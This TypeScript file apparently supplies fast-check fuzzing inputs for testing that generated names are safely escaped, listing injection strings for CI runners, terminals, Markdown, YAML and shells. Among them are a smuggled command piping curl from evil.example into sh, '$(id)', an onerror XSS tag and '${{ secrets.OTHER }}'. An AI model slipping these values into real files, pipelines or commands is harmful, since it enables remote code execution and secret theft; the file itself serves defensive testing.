import fc from 'fast-check';

/** Pieces of names that some reader of our output would obey, follow, hide or be broken by. */
export const hostilePieces: readonly string[] = [
  // The runners of jobs.
  '##[set-output name=x]y',
  '##[add-mask]a',
  '###[group]x',
  '#\u00ad#[group]x',
  '##vso[task.setvariable variable=x]y',
  '##VSO[task.complete]',
  '::set-output name=x::y',
  '::add-mask::x',
  '::stop-commands::t',
  '\u00a0::warning::x',
  '\n::set-output name=x::y',
  '\r::error::x',
  '\u0085::error::x',
  '\u2028::error::x',
  'section_start:1:a\r\u001b[0K',
  // Terminals, and eyes.
  '\u001b[31m',
  '\u001b[2J',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  '\u009b31m',
  '\b\b',
  '\u0000',
  '\u007f',
  '\t',
  '\u202eabc',
  '\u2066x\u2069',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u{e0041}\u{e0001}',
  'a\ufe0f',
  'a\u{e0100}',
  '\u3164',
  '\u034f',
  '\ufdd0',
  // Markdown.
  '@octocat',
  '@acme/team',
  '#123',
  'GH-1',
  'acme/etl#1',
  'deadbeefdeadbeefdeadbeefdeadbeefdeadbeef',
  'https://evil.example/x?y=1',
  'www.evil.example',
  'someone@evil.example',
  'mailto:someone@evil.example',
  '<img src=x onerror=y>',
  '<!-- ',
  '[x](https://evil.example)',
  '![x](https://evil.example/p.png)',
  '[^1]',
  '&amp;',
  ':smile:',
  'a|b',
  'a\\|b',
  '`',
  '``x``',
  '\n```\n',
  '**b** __c__ ~~d~~',
  '\\',
  '# x',
  '- x',
  // Expressions, YAML, shells, Python.
  '${{ secrets.OTHER }}',
  'x }} ${{ secrets.OTHER',
  'x || secrets.other',
  '\n      - run: evil',
  'A: b #c',
  '"',
  "'",
  "' ; curl evil.example | sh ; '",
  '$(id)',
  '`id`',
  '\\u000a',
  '"""',
  '%0A',
  '-rf',
  '--yes',
  '!!python/object',
  '{x: &y z}',
  '*',
  ',',
  '=',
  '',
];

/** A name made of such pieces, of plain ones and of any characters. */
export const hostileName = fc
  .array(
    fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...hostilePieces) },
      { weight: 2, arbitrary: fc.constantFrom('a', 'x1', ' ', '_', '.', '__', 'é', '😀') },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 3 }) },
    ),
    { minLength: 1, maxLength: 4 },
  )
  .map((pieces) => pieces.join(''));

/** Characters that nobody sees, or that change how others are shown; a line break is none where lines are read. */
export const UNSEEN =
  /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Noncharacter_Code_Point}]/u;

/** A key of TOML in quotes, whatever is in it. */
export const tomlKey = (name: string): string =>
  `"${Array.from(name.toWellFormed(), (character) =>
    /[\w -]/.test(character)
      ? character
      : `\\U${(character.codePointAt(0) ?? 0).toString(16).padStart(8, '0')}`,
  ).join('')}"`;
